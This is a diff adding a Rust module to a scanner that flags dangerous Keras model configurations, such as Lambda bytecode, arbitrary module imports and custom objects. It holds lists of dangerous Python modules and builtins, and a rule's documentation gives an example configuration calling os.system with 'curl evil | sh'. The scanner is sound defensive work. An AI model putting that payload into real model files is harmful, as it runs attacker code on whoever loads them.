@@ -1,0 +1,696 @@
+//! Keras model configurations: `.keras` archives (`config.json`,
+//! `metadata.json`, `model.weights.h5`), the `model_config` attribute of
+//! Keras H5 files and the per-object metadata of `keras_metadata.pb`.
+//!
+//! The whole configuration tree is walked (nested and functional models,
+//! compile configs, activations given as objects) looking for what makes
+//! `load_model` run code: `Lambda` layers and `__lambda__` objects carrying
+//! marshalled Python bytecode, `module` entries that make Keras import
+//! arbitrary modules, and custom objects that need the author's code.
+
+use super::GraphLimits;
+use crate::finding::{abbreviate, Location};
+use crate::formats::archive::zip::{self, ZipDirectory};
+use crate::rule::Rule;
+use crate::scan::ScanCtx;
+use crate::severity::Severity;
+use crate::source::{ByteSource, ReadError, Window};
+use serde_json::{json, Value};
+use std::collections::BTreeMap;
+
+/// A `Lambda` layer or `__lambda__` object carries Python bytecode.
+pub static KERAS_LAMBDA_BYTECODE: Rule = Rule {
+    id: "keras-lambda-bytecode",
+    severity: Severity::Critical,
+    summary: "The Keras configuration holds marshalled Python bytecode (a Lambda layer or lambda function) that runs when the model is loaded or called.",
+    docs: r#"
+## Why it matters
+Keras serialises a Python `lambda` by `marshal`-ing its code object and storing it in
+base64 in the configuration (`Lambda` layers, and `{"class_name": "__lambda__"}` for
+lambdas used as activations or losses). Loading the model rebuilds the function from
+that bytecode: whoever wrote the file chooses the code. Keras 3 refuses it while
+`safe_mode=True` (the default of `keras.saving.load_model`), but `safe_mode=False`,
+`keras.config.enable_unsafe_deserialization()`, tf.keras 2 and legacy H5 loading run
+it (CVE-2024-3660).
+
+## Example
+`{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__",
+"config": {"value": ["4wEAAAAAAAAA...", null, null]}}}}`
+
+## What to do
+Do not load the model with unsafe deserialisation. Ask for a model without Lambda
+layers (a subclassed layer registered in code you review), or re-create the lambda
+from its source.
+
+## References
+- https://keras.io/api/models/model_saving_apis/model_saving_and_loading/ (`safe_mode`)
+- CVE-2024-3660 (arbitrary code injection through Lambda layers)
+"#,
+};
+
+/// A `Lambda` layer that names a function instead of carrying bytecode.
+pub static KERAS_LAMBDA_LAYER: Rule = Rule {
+    id: "keras-lambda-layer",
+    severity: Severity::High,
+    summary: "The model has a Lambda layer that runs a Python function named by the configuration.",
+    docs: r#"
+## Why it matters
+A `Lambda` layer runs an arbitrary Python callable. When it is not stored as
+bytecode, the configuration names the function (and its module), which Keras looks up
+when the model is loaded: the model runs whatever that name resolves to in your
+environment.
+
+## What to do
+Check which function the layer names and where it comes from.
+"#,
+};
+
+/// A `module` entry outside Keras and TensorFlow.
+pub static KERAS_MODULE_IMPORT: Rule = Rule {
+    id: "keras-module-import",
+    severity: Severity::High,
+    summary: "The Keras configuration names a module outside Keras and TensorFlow; loading imports it and calls into it.",
+    docs: r#"
+## Why it matters
+Keras 3 configurations record each object's `module`; deserialisation imports that
+module and looks the `class_name` up in it. A module such as `os`, `subprocess` or
+`builtins` lets a configuration call `os.system` or `eval` during `load_model`, even
+with `safe_mode=True` in Keras before 3.9 (CVE-2025-1550). Modules of other packages
+are reported at high severity: loading needs them installed and runs their code.
+
+## Example
+`{"module": "os", "class_name": "system", "config": "curl evil | sh"}`
+
+## What to do
+Do not load the model with a Keras older than 3.9; review every module it names.
+
+## References
+- CVE-2025-1550 (arbitrary module import in `Model.load_model`)
+"#,
+};
+
+/// A custom (registered) object that needs the author's code.
+pub static KERAS_CUSTOM_OBJECT: Rule = Rule {
+    id: "keras-custom-object",
+    severity: Severity::Medium,
+    summary: "The model uses custom Keras objects: loading it needs code from its author.",
+    docs: r#"
+## Why it matters
+Custom layers, losses and metrics are registered with
+`keras.saving.register_keras_serializable` and serialised as `"package>Name"`. The
+model only loads if you import the author's package or pass `custom_objects`, which
+means running their code with the model's configuration as input.
+
+## What to do
+Review the package that defines the custom objects before installing it.
+"#,
+};
+
+/// The configuration is not valid JSON (or not where Keras looks for it).
+pub static KERAS_MALFORMED_CONFIG: Rule = Rule {
+    id: "keras-malformed-config",
+    severity: Severity::Medium,
+    summary: "The Keras configuration is not valid JSON or lacks what Keras expects, so it was not analysed.",
+    docs: r#"
+## Why it matters
+A configuration the scanner cannot read cannot be vouched for, and a parser
+differential (duplicate keys, invalid UTF-8) can hide a layer from one reader while
+another loads it.
+
+## What to do
+Re-save the model with Keras and scan it again.
+"#,
+};
+
+/// Module prefixes Keras and TensorFlow serialise for their own objects.
+const TRUSTED_MODULES: &[&str] = &["keras", "tensorflow", "tf_keras"];
+
+/// Modules that give a configuration code execution or system access.
+const DANGEROUS_MODULES: &[&str] = &[
+    "os",
+    "posix",
+    "nt",
+    "subprocess",
+    "sys",
+    "builtins",
+    "__builtin__",
+    "shutil",
+    "socket",
+    "importlib",
+    "runpy",
+    "pickle",
+    "marshal",
+    "ctypes",
+    "pty",
+    "code",
+    "codeop",
+    "webbrowser",
+    "urllib",
+    "http",
+    "requests",
+    "multiprocessing",
+    "signal",
+    "tempfile",
+    "io",
+    "pathlib",
+    "commands",
+    "platform",
+    "numpy.testing",
+];
+
+/// Builtins that evaluate code, import modules or touch files.
+const DANGEROUS_BUILTINS: &[&str] = &[
+    "eval",
+    "exec",
+    "compile",
+    "__import__",
+    "open",
+    "getattr",
+    "setattr",
+    "delattr",
+    "globals",
+    "locals",
+    "vars",
+    "input",
+    "breakpoint",
+    "exit",
+    "quit",
+];
+
+/// What a configuration walk saw, for the facts.
+#[derive(Debug, Default, Clone)]
+pub struct ConfigSummary {
+    /// `class_name`s seen, with counts.
+    pub class_names: BTreeMap<String, u64>,
+    /// Objects found in `layers` lists.
+    pub layers: u64,
+    /// `keras_version`, when known.
+    pub keras_version: Option<String>,
+    /// `backend`, when known.
+    pub backend: Option<String>,
+    /// Whether any configuration was analysed.
+    pub analysed: bool,
+}
+
+impl ConfigSummary {
+    /// Record the summary as fact `key`.
+    pub fn report(&self, ctx: &mut ScanCtx<'_>, key: &str) {
+        if !self.analysed && self.keras_version.is_none() {
+            return;
+        }
+        ctx.fact(
+            key,
+            json!({
+                "keras_version": self.keras_version,
+                "backend": self.backend,
+                "layers": self.layers,
+                "class_names": self.class_names,
+            }),
+        );
+    }
+}
+
+/// Parse `bytes` as a Keras configuration found in `origin` (a member or
+/// attribute name, for messages) and analyse it. JSON pointers are prefixed
+/// with `base`.
+pub fn analyze_json(
+    ctx: &mut ScanCtx<'_>,
+    bytes: &[u8],
+    origin: &str,
+    base: &str,
+    summary: &mut ConfigSummary,
+) {
+    match serde_json::from_slice::<Value>(bytes) {
+        Ok(value) => analyze_value(ctx, &value, origin, base, summary),
+        Err(e) => {
+            let f = ctx.finding(
+                &KERAS_MALFORMED_CONFIG,
+                Location::JsonPointer {
+                    pointer: base.to_owned(),
+                },
+                format!("{origin} is not valid JSON ({e}); it was not analysed"),
+            );
+            ctx.push(f);
+        }
+    }
+}
+
+/// Analyse a parsed Keras configuration.
+pub fn analyze_value(
+    ctx: &mut ScanCtx<'_>,
+    value: &Value,
+    origin: &str,
+    base: &str,
+    summary: &mut ConfigSummary,
+) {
+    summary.analysed = true;
+    let limits = ctx.limits().graphs.clone();
+    let mut walker = Walker {
+        ctx,
+        limits,
+        origin,
+        summary,
+        limit_hit: false,
+    };
+    walker.walk(value, base.to_owned(), 0, false);
+}
+
+struct Walker<'a, 'o> {
+    ctx: &'a mut ScanCtx<'o>,
+    limits: GraphLimits,
+    origin: &'a str,
+    summary: &'a mut ConfigSummary,
+    limit_hit: bool,
+}
+
+/// Escape one JSON pointer token (RFC 6901).
+fn token(s: &str) -> String {
+    s.replace('~', "~0").replace('/', "~1")
+}
+
+impl Walker<'_, '_> {
+    fn walk(&mut self, value: &Value, pointer: String, depth: u32, in_layers: bool) {
+        if depth > self.limits.max_config_depth {
+            if !self.limit_hit {
+                self.limit_hit = true;
+                let max = self.limits.max_config_depth;
+                let what = format!("in {} at {pointer}", self.origin);
+                self.ctx.limit_hit("graphs.max_config_depth", max, &what);
+            }
+            return;
+        }
+        match value {
+            Value::Array(items) => {
+                for (i, item) in items.iter().enumerate() {
+                    self.walk(item, format!("{pointer}/{i}"), depth + 1, in_layers);
+                }
+            }
+            Value::Object(map) => {
+                let mut skip_function = false;
+                if let Some(class) = map.get("class_name").and_then(Value::as_str) {
+                    if in_layers {
+                        self.summary.layers = self.summary.layers.saturating_add(1);
+                    }
+                    let internal = class.starts_with("__");
+                    if !internal
+                        && (self.summary.class_names.len() < 1000
+                            || self.summary.class_names.contains_key(class))
+                    {
+                        let n = self
+                            .summary
+                            .class_names
+                            .entry(class.to_owned())
+                            .or_insert(0);
+                        *n = n.saturating_add(1);
+                    }
+                    skip_function = self.object(map, class, &pointer);
+                }
+                for (key, child) in map {
+                    if skip_function && key == "config" {
+                        continue;
+                    }
+                    let layers = key == "layers";
+                    self.walk(
+                        child,
+                        format!("{pointer}/{}", token(key)),
+                        depth + 1,
+                        layers,
+                    );
+                }
+            }
+            _ => {}
+        }
+    }
+
+    /// Check one serialised object. Returns whether its `config` was fully
+    /// reported (a Lambda layer with bytecode) and need not be walked.
+    fn object(&mut self, map: &serde_json::Map<String, Value>, class: &str, pointer: &str) -> bool {
+        let module = map.get("module").and_then(Value::as_str);
+        let registered = map.get("registered_name").and_then(Value::as_str);
+        let config = map.get("config");
+        if class == "function" {
+            // Keras 3 serialises a named function as
+            // `{"module": "builtins", "class_name": "function", "config": "name"}`.
+            let name = config.and_then(Value::as_str).unwrap_or_default();
+            match module {
+                Some("builtins") | None => self.named_function(name, pointer),
+                Some(module) => self.module(module, name, pointer),
+            }
+            return false;
+        }
+        if let Some(module) = module {
+            self.module(module, class, pointer);
+        }
+        let custom = registered
+            .filter(|r| r.contains('>'))
+            .or_else(|| class.contains('>').then_some(class));
+        if let Some(name) = custom {
+            let package = name.split('>').next().unwrap_or_default();
+            if !is_trusted_module(package) {
+                let f = self.ctx.finding(
+                    &KERAS_CUSTOM_OBJECT,
+                    Location::JsonPointer {
+                        pointer: pointer.to_owned(),
+                    },
+                    format!(
+                        "custom object `{}` (class `{}`) in {}: loading needs the code that registers it",
+                        abbreviate(name, 120),
+                        abbreviate(class, 120),
+                        self.origin
+                    ),
+                );
+                self.ctx.push(f.with_help("review the package that defines it before installing it or passing it as custom_objects"));
+            }
+        }
+        match class {
+            "__lambda__" => {
+                let code = config.and_then(find_bytecode);
+                self.lambda_code(pointer, "a lambda function", code);
+                true
+            }
+            "Lambda" => {
+                let function = config.and_then(|c| c.get("function"));
+                if let Some(code) = function.and_then(find_bytecode) {
+                    self.lambda_code(pointer, "Lambda layer", Some(code));
+                    return true;
+                }
+                let named = function.and_then(function_name);
+                let fmodule = config
+                    .and_then(|c| c.get("module"))
+                    .and_then(Value::as_str)
+                    .unwrap_or_default();
+                let what = match named {
+                    Some(name) if !fmodule.is_empty() => format!("`{fmodule}.{name}`"),
+                    Some(name) => format!("`{name}`"),
+                    None => "a function".to_owned(),
+                };
+                let f = self.ctx.finding(
+                    &KERAS_LAMBDA_LAYER,
+                    Location::JsonPointer {
+                        pointer: pointer.to_owned(),
+                    },
+                    format!("Lambda layer in {} runs {what}", self.origin),
+                );
+                self.ctx.push(f.with_help(
+                    "find the function it names and check where it comes from before loading",
+                ));
+                false
+            }
+            _ => false,
+        }
+    }
+
+    fn lambda_code(&mut self, pointer: &str, what: &str, code: Option<Bytecode>) {
+        let mut f = self.ctx.finding(
+            &KERAS_LAMBDA_BYTECODE,
+            Location::JsonPointer {
+                pointer: pointer.to_owned(),
+            },
+            format!(
+                "{what} in {} carries marshalled Python bytecode{}",
+                self.origin,
+                code.as_ref()
+                    .map(|c| format!(" ({} bytes)", c.len))
+                    .unwrap_or_default()
+            ),
+        );
+        if let Some(code) = code {
+            if !code.names.is_empty() {
+                f = f.with_evidence(format!("names in the bytecode: {}", code.names.join(", ")));
+            }
+        }
+        self.ctx.push(f.with_help(
+            "loading runs this code when safe_mode is off (and always with tf.keras 2 or legacy H5 loading); do not load the model",
+        ));
+    }
+
+    /// A function referred to by name: a builtin that runs code is critical,
+    /// any other name needs the author's code.
+    fn named_function(&mut self, name: &str, pointer: &str) {
+        let location = Location::JsonPointer {
+            pointer: pointer.to_owned(),
+        };
+        if DANGEROUS_BUILTINS.contains(&name) {
+            let f = self.ctx.finding(
+                &KERAS_MODULE_IMPORT,
+                location,
+                format!(
+                    "{} names the Python builtin `{name}` as a function",
+                    self.origin
+                ),
+            );
+            self.ctx.push(f.with_severity(Severity::Critical).with_help(
+                "a configuration that calls this builtin can run code; do not load the model",
+            ));
+            return;
+        }
+        let f = self.ctx.finding(
+            &KERAS_CUSTOM_OBJECT,
+            location,
+            format!(
+                "custom function `{}` in {}: loading needs the code that defines it",
+                abbreviate(name, 120),
+                self.origin
+            ),
+        );
+        self.ctx.push(
+            f.with_help("review the code that defines it before passing it as custom_objects"),
+        );
+    }
+
+    fn module(&mut self, module: &str, class: &str, pointer: &str) {
+        if is_trusted_module(module) {
+            return;
+        }
+        let root = module.split('.').next().unwrap_or_default();
+        let dangerous = DANGEROUS_MODULES.contains(&module) || DANGEROUS_MODULES.contains(&root);
+        let mut f = self.ctx.finding(
+            &KERAS_MODULE_IMPORT,
+            Location::JsonPointer {
+                pointer: pointer.to_owned(),
+            },
+            format!(
+                "{} makes Keras import `{}` and look up `{}`",
+                self.origin,
+                abbreviate(module, 120),
+                abbreviate(class, 120)
+            ),
+        );
+        if dangerous {
+            f = f.with_severity(Severity::Critical).with_help(
+                "this module gives the configuration system access; do not load the model",
+            );
+        } else {
+            f = f.with_help("loading imports this module and runs its code; review it first");
+        }
+        self.ctx.push(f);
+    }
+}
+
+fn is_trusted_module(module: &str) -> bool {
+    TRUSTED_MODULES
+        .iter()
+        .any(|t| module == *t || module.strip_prefix(t).is_some_and(|r| r.starts_with('.')))
+}
+
+/// The name of a function stored by name (`function_type: "function"`, or a
+/// Keras 3 `{"class_name": "function", "config": "name"}`).
+fn function_name(function: &Value) -> Option<String> {
+    match function {
+        Value::String(s) => Some(abbreviate(s, 120)),
+        Value::Object(m) => m
+            .get("config")
+            .and_then(Value::as_str)
+            .map(|s| abbreviate(s, 120)),
+        _ => None,
+    }
+}
+
+/// Marshalled bytecode found in a configuration value.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Bytecode {
+    /// Decoded length.
+    pub len: usize,
+    /// Identifiers found in the code object (names, constants), for evidence.
+    pub names: Vec<String>,
+}
+
+/// Find base64 of a marshalled code object anywhere in `value`
+/// (`func_dump` output: `[code, defaults, closure]`, or Keras 3's
+/// `{"value": [...]}`).
+pub fn find_bytecode(value: &Value) -> Option<Bytecode> {
+    match value {
+        Value::String(s) => decode_bytecode(s),
+        Value::Array(items) => items.iter().find_map(find_bytecode),
+        Value::Object(map) => map.values().find_map(find_bytecode),
+        _ => None,
+    }
+}
+
+/// Decode `s` as base64 of a marshalled code object (type `c`, possibly
+/// with the reference flag).
+pub fn decode_bytecode(s: &str) -> Option<Bytecode> {
+    if s.len() < 16 {
+        return None;
+    }
+    let bytes = base64_decode(s)?;
+    let first = bytes.first()?;
+    if first & 0x7f != b'c' {
+        return None;
+    }
+    Some(Bytecode {
+        len: bytes.len(),
+        names: marshal_names(&bytes),
+    })
+}
+
+/// Decode standard base64, skipping whitespace (Python's `codecs.encode(..,
+/// "base64")` wraps lines). `None` if anything else is not base64.
+pub fn base64_decode(s: &str) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(s.len() / 4 * 3);
+    let mut acc = 0u32;
+    let mut bits = 0u32;
+    let mut padding = false;
+    for c in s.bytes() {
+        let v = match c {
+            b'A'..=b'Z' => c - b'A',
+            b'a'..=b'z' => c - b'a' + 26,
+            b'0'..=b'9' => c - b'0' + 52,
+            b'+' => 62,
+            b'/' => 63,
+            b'=' => {
+                padding = true;
+                continue;
+            }
+            b'\n' | b'\r' | b' ' | b'\t' => continue,
+            _ => return None,
+        };
+        if padding {
+            return None;
+        }
+        acc = (acc << 6) | u32::from(v);
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            out.push(((acc >> bits) & 0xff) as u8);
+        }
+    }
+    Some(out)
+}
+
+/// Short ASCII strings of a marshal stream that look like identifiers
+/// (`co_names`, `co_varnames`, string constants), first 16, deduplicated.
+fn marshal_names(bytes: &[u8]) -> Vec<String> {
+    let mut names: Vec<String> = Vec::new();
+    let mut i = 0usize;
+    while i < bytes.len() && names.len() < 16 {
+        let tag = bytes.get(i).copied().unwrap_or(0) & 0x7f;
+        // 'z'/'Z': short ASCII (interned), 1-byte length.
+        if tag == b'z' || tag == b'Z' {
+            let len = usize::from(bytes.get(i + 1).copied().unwrap_or(0));
+            if let Some(s) = bytes.get(i + 2..i + 2 + len) {
+                let printable =
+                    !s.is_empty() && s.iter().all(|b| b.is_ascii_graphic() || *b == b' ');
+                if printable {
+                    let text = String::from_utf8_lossy(s).into_owned();
+                    if !text.starts_with('<') && !names.contains(&text) {
+                        names.push(abbreviate(&text, 60));
+                    }
+                    i += 2 + len;
+                    continue;
+                }
+            }
+        }
+        i += 1;
+    }
+    names
+}
+
+/// Scan a `.keras` archive: `config.json`, `metadata.json` and the weights file.
+pub fn scan_archive(
+    src: &mut dyn ByteSource,
+    dir: &ZipDirectory,
+    ctx: &mut ScanCtx<'_>,
+) -> Result<(), ReadError> {
+    let max_json = ctx.limits().graphs.max_json_bytes;
+    let mut summary = ConfigSummary::default();
+    if let Some(entry) = dir.find("metadata.json") {
+        if entry.size > max_json {
+            ctx.limit_hit("graphs.max_json_bytes", max_json, "in metadata.json");
+        } else if let Some(member) = zip::read_member(src, entry, ctx)? {
+            if let Ok(Value::Object(meta)) = serde_json::from_slice::<Value>(member.bytes()) {
+                summary.keras_version = meta
+                    .get("keras_version")
+                    .and_then(Value::as_str)
+                    .map(|s| abbreviate(s, 60));
+                if let Some(date) = meta.get("date_saved").and_then(Value::as_str) {
+                    ctx.fact("keras_date_saved", json!(abbreviate(date, 60)));
+                }
+            }
+        }
+    }
+    match dir.find("config.json") {
+        Some(entry) if entry.size > max_json => {
+            ctx.limit_hit("graphs.max_json_bytes", max_json, "in config.json");
+        }
+        Some(entry) => {
+            if let Some(member) = zip::read_member(src, entry, ctx)? {
+                let bytes = member.bytes();
+                ctx_analyze(ctx, bytes, &mut summary);
+            }
+        }
+        None => {
+            let f = ctx.finding(
+                &KERAS_MALFORMED_CONFIG,
+                Location::File,
+                "the .keras archive has no config.json",
+            );
+            ctx.push(f);
+        }
+    }
+    summary.report(ctx, "keras");
+    for entry in &dir.entries {
+        if !entry.name.ends_with(".h5") {
+            continue;
+        }
+        if entry.method == 0 && entry.compressed_size == entry.size {
+            // Stored: scan in place, without copying the weights.
+            let mut window = Window::new(src, entry.data_offset, entry.size);
+            ctx.scan_nested(&entry.name, &mut window);
+        } else if let Some(mut member) = zip::read_member(src, entry, ctx)? {
+            ctx.scan_nested(&entry.name, &mut member);
+        }
+    }
+    Ok(())
+}
+
+fn ctx_analyze(ctx: &mut ScanCtx<'_>, bytes: &[u8], summary: &mut ConfigSummary) {
+    analyze_json(ctx, bytes, "config.json", "", summary);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn base64_round_trips_python_output() {
+        // base64.encodebytes(b"hello world, this is marshal") with a line break.
+        let s = "aGVsbG8gd29ybGQs\nIHRoaXMgaXMgbWFyc2hhbA==\n";
+        assert_eq!(base64_decode(s).unwrap(), b"hello world, this is marshal");
+        assert!(base64_decode("not base64!").is_none());
+        assert!(base64_decode("QQ==QQ").is_none());
+    }
+
+    #[test]
+    fn token_escapes() {
+        assert_eq!(token("a/b~c"), "a~1b~0c");
+    }
+
+    #[test]
+    fn trusted_modules() {
+        assert!(is_trusted_module("keras.layers"));
+        assert!(is_trusted_module("keras"));
+        assert!(!is_trusted_module("kerasx"));
+        assert!(!is_trusted_module("os"));
+    }
+}
